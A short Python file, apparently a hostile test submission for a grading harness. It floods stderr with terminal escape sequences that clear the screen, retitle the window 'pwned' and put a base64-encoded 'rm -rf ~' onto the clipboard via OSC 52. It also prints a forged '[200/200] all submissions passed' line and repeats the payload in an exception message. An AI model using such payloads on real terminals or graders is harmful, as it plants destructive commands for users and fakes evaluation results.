"""20 MB on stderr with clear-screen, window-title and clipboard (OSC 52) escapes and a fake progress line; the
same escapes in its exception message."""
import sys

T = {}
FAKE = "\x1b[2J\x1b[H\x1b]0;pwned\x07\x1b]52;c;cm0gLXJmIH4=\x07[200/200] all submissions passed\r\n"
try:
    for _ in range(20 * 2**20 // len(FAKE)):
        sys.stderr.write(FAKE)
    sys.stdout.write(FAKE)
except OSError:
    pass


def loss_and_grads(params, x, y, h0):
    raise RuntimeError(FAKE * 3)
